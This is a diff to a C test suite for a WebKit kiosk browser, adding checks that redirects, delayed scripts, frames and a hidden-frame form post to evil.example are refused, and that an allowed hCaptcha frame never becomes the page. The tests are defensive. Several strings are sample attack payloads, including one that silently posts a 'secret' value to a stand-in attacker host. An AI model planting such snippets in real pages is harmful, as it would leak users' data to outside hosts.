@@ -236,11 +236,8 @@ test_end_session_wipes_storage (ShellFixture  *fixture,
 
 typedef enum
 {
-  REFUSAL_SHOWN,    /* the user caused it: the friendly page explains */
-  REFUSAL_SILENT,   /* a frame or a script did it: the page just stays */
-  REFUSAL_EITHER,   /* a meta refresh: WebKit reports it as a redirect of the
-                     * load when it fires during the load (shown), as a
-                     * script navigation after it (silent) */
+  REFUSAL_SHOWN,    /* the page would have gone: the friendly page explains */
+  REFUSAL_SILENT,   /* a frame, or what WebKit refuses itself: the page just stays */
 } RefusalKind;
 
 typedef struct
@@ -288,12 +285,24 @@ static const Trick tricks[] = {
   { "open-redirect", LINK ("http://www.caf.fr/redirect"), CLICK, REFUSAL_SHOWN },
   { "meta-refresh",
     "<meta http-equiv='refresh' content='0;url=http://evil.example/forbidden'>", NULL,
-    REFUSAL_EITHER },
+    REFUSAL_SHOWN, "evil.example" },
   { "script-location-on-click", "", "location.href = 'http://evil.example/forbidden'",
     REFUSAL_SHOWN },
   { "script-location-by-itself", AFTER_LOAD ("location.href = 'http://evil.example/forbidden'"),
-    NULL, REFUSAL_SILENT },
+    NULL, REFUSAL_SHOWN, "evil.example" },
+  { "script-location-after-a-second",
+    "<script>setTimeout (function () { location.href = 'http://evil.example/forbidden'; }, "
+    "1000);</script>", NULL, REFUSAL_SHOWN, "evil.example" },
+  { "redirect-by-itself", AFTER_LOAD ("location.href = 'http://www.caf.fr/redirect'"), NULL,
+    REFUSAL_SHOWN, "evil.example" },
   { "frame", "<iframe src='http://evil.example/forbidden'></iframe>", NULL, REFUSAL_SILENT },
+  { "frame-redirected", "<iframe src='http://www.caf.fr/redirect'></iframe>", NULL,
+    REFUSAL_SILENT },
+  { "form-post-into-a-hidden-frame",
+    "<iframe name='hidden' style='display: none'></iframe>"
+    "<form id='form' method='post' action='http://evil.example/forbidden' target='hidden'>"
+    "<input name='q' value='secret'></form>"
+    AFTER_LOAD ("document.getElementById('form').submit()"), NULL, REFUSAL_SILENT },
   { "window-open-on-click",
     "<button id='go' style='position: fixed; inset: 0; width: 100%; height: 100%' "
     "onclick=\"window.open('http://evil.example/forbidden')\">go</button>", REAL_CLICK,
@@ -353,15 +362,134 @@ test_trick (ShellFixture  *fixture,
   g_assert_cmpuint (kiosk_test_server_count_path (fixture->server, "/forbidden"), ==, 0);
   g_assert_cmpuint (kiosk_test_server_count_requests (fixture->server, "evil.example"), ==, 0);
   g_assert_cmpstr (webkit_web_view_get_title (web_view), ==, title);
-  if (trick->refusal != REFUSAL_EITHER)
-    g_assert_cmpstr (kiosk_window_get_page (fixture->window), ==,
-                     trick->refusal == REFUSAL_SHOWN ? "refused" : "browser");
+  g_assert_cmpstr (kiosk_window_get_page (fixture->window), ==,
+                   trick->refusal == REFUSAL_SHOWN ? "refused" : "browser");
 
-  /* An address or a number is shown to be noted, never handed elsewhere. */
+  /* The site, an address or a number is shown to be noted, never handed elsewhere. */
   if (trick->shown != NULL)
     g_assert_nonnull (strstr (kiosk_window_get_refused_place (fixture->window), trick->shown));
   g_assert_cmpuint (g_list_length (gtk_application_get_windows (
                       GTK_APPLICATION (fixture->application))), ==, 1);
+}
+
+/* A captcha, as La Poste's login shows hCaptcha's: a frame from a host of
+ * `[Allow] Frames`, which reports to the page with postMessage.
+ */
+#define CAPTCHA_PAGE "<title>login</title>" \
+  "<iframe src='http://newassets.hcaptcha.com/captcha'></iframe>" \
+  "<script>addEventListener ('message', function (event) {" \
+  " if (event.origin == 'http://newassets.hcaptcha.com') document.title = event.data; });" \
+  "</script>"
+
+static void
+add_captcha (ShellFixture *fixture)
+{
+  kiosk_test_server_add_page (fixture->server, "newassets.hcaptcha.com", "/captcha",
+                              "<title>captcha</title>"
+                              "<script>parent.postMessage ('captcha solved', '*');</script>",
+                              NULL);
+}
+
+static void
+test_captcha_frame_shows (ShellFixture  *fixture,
+                          gconstpointer  data)
+{
+  WebKitWebView *web_view;
+
+  add_captcha (fixture);
+  kiosk_test_server_add_page (fixture->server, "www.caf.fr", "/login", CAPTCHA_PAGE, NULL);
+  open_caf (fixture);
+  web_view = fixture_get_web_view (fixture);
+
+  webkit_web_view_load_uri (web_view, "http://www.caf.fr/login");
+  assert_title_becomes (web_view, "captcha solved");
+  g_assert_cmpstr (kiosk_window_get_page (fixture->window), ==, "browser");
+  g_assert_cmpstr (webkit_web_view_get_uri (web_view), ==, "http://www.caf.fr/login");
+}
+
+/* However the page asks, the captcha's host never becomes the page, and
+ * is not even asked: the refusal page names it.
+ */
+static void
+test_captcha_host_is_never_a_page (ShellFixture  *fixture,
+                                   gconstpointer  data)
+{
+  static const struct
+  {
+    const char *body;
+    const char *trigger;
+  } ways[] = {
+    { "<a id='go' href='http://newassets.hcaptcha.com/captcha'>go</a>",
+      "document.getElementById('go').click()" },
+    { AFTER_LOAD ("location.href = 'http://newassets.hcaptcha.com/captcha'"), NULL },
+    { AFTER_LOAD ("location.href = 'http://www.caf.fr/to-captcha'"), NULL },
+    { "<form id='form' method='post' action='http://newassets.hcaptcha.com/captcha'></form>",
+      "document.getElementById('form').submit()" },
+    { "<a id='go' target='_blank' href='http://newassets.hcaptcha.com/captcha'>go</a>",
+      "document.getElementById('go').click()" },
+  };
+  WebKitWebView *web_view;
+
+  add_captcha (fixture);
+  kiosk_test_server_add_redirect (fixture->server, "www.caf.fr", "/to-captcha",
+                                  "http://newassets.hcaptcha.com/captcha");
+  open_caf (fixture);
+  web_view = fixture_get_web_view (fixture);
+
+  for (guint i = 0; i < G_N_ELEMENTS (ways); i++)
+    {
+      g_autofree char *path = g_strdup_printf ("/way-%u", i);
+      g_autofree char *address = g_strconcat ("http://www.caf.fr", path, NULL);
+      g_autofree char *title = g_strdup_printf ("way %u", i);
+      g_autofree char *html = g_strdup_printf ("<title>%s</title>%s", title, ways[i].body);
+
+      g_test_message ("%s", ways[i].body);
+      kiosk_test_server_add_page (fixture->server, "www.caf.fr", path, html, NULL);
+      gtk_widget_activate_action (GTK_WIDGET (fixture->window), "win.leave-refused", NULL);
+      webkit_web_view_load_uri (web_view, address);
+      assert_title_becomes (web_view, title);
+      if (ways[i].trigger != NULL)
+        run_script (web_view, ways[i].trigger);
+
+      assert_page_becomes (fixture->window, "refused");
+      g_assert_cmpstr (kiosk_window_get_refused_place (fixture->window), ==,
+                       "newassets.hcaptcha.com");
+      kiosk_test_spin (300);
+      g_assert_cmpstr (webkit_web_view_get_title (web_view), ==, title);
+    }
+
+  g_assert_cmpuint (kiosk_test_server_count_requests (fixture->server, "newassets.hcaptcha.com"),
+                    ==, 0);
+}
+
+/* A page of another site starts another web process (WebKit swaps
+ * processes between sites): the rules go with the session, not the
+ * process, and the compiled file was removed long before.
+ */
+static void
+test_rules_follow_a_change_of_site (ShellFixture  *fixture,
+                                    gconstpointer  data)
+{
+  WebKitWebView *web_view;
+
+  add_captcha (fixture);
+  kiosk_test_server_add_page (fixture->server, "app.franceconnect.gouv.fr", "/login",
+                              CAPTCHA_PAGE, NULL);
+  kiosk_test_server_add_page (fixture->server, "app.franceconnect.gouv.fr", "/away",
+                              "<title>away</title>"
+                              AFTER_LOAD ("location.href = 'http://evil.example/forbidden'"),
+                              NULL);
+  open_caf (fixture);
+  web_view = fixture_get_web_view (fixture);
+
+  webkit_web_view_load_uri (web_view, "http://app.franceconnect.gouv.fr/login");
+  assert_title_becomes (web_view, "captcha solved");
+
+  webkit_web_view_load_uri (web_view, "http://app.franceconnect.gouv.fr/away");
+  assert_title_becomes (web_view, "away");
+  assert_page_becomes (fixture->window, "refused");
+  g_assert_cmpstr (kiosk_window_get_refused_place (fixture->window), ==, "evil.example");
+  g_assert_cmpuint (kiosk_test_server_count_requests (fixture->server, "evil.example"), ==, 0);
 }
 
 static void
@@ -1611,6 +1739,9 @@ main (int   argc,
   SHELL_TEST ("/shell/policy/global-allow-list-is-followed", test_global_allow_list_is_followed);
   SHELL_TEST ("/shell/policy/outside-link-is-refused", test_outside_link_is_refused);
   SHELL_TEST ("/shell/policy/outside-frame-stays-empty", test_outside_frame_stays_empty);
+  SHELL_TEST ("/shell/frames/captcha-frame-shows", test_captcha_frame_shows);
+  SHELL_TEST ("/shell/frames/captcha-host-is-never-a-page", test_captcha_host_is_never_a_page);
+  SHELL_TEST ("/shell/frames/rules-follow-a-change-of-site", test_rules_follow_a_change_of_site);
   SHELL_TEST ("/shell/policy/popup-opens-in-the-kiosk", test_popup_opens_in_the_kiosk);
   SHELL_TEST ("/shell/policy/window-open-opens-in-the-kiosk",
               test_window_open_opens_in_the_kiosk);
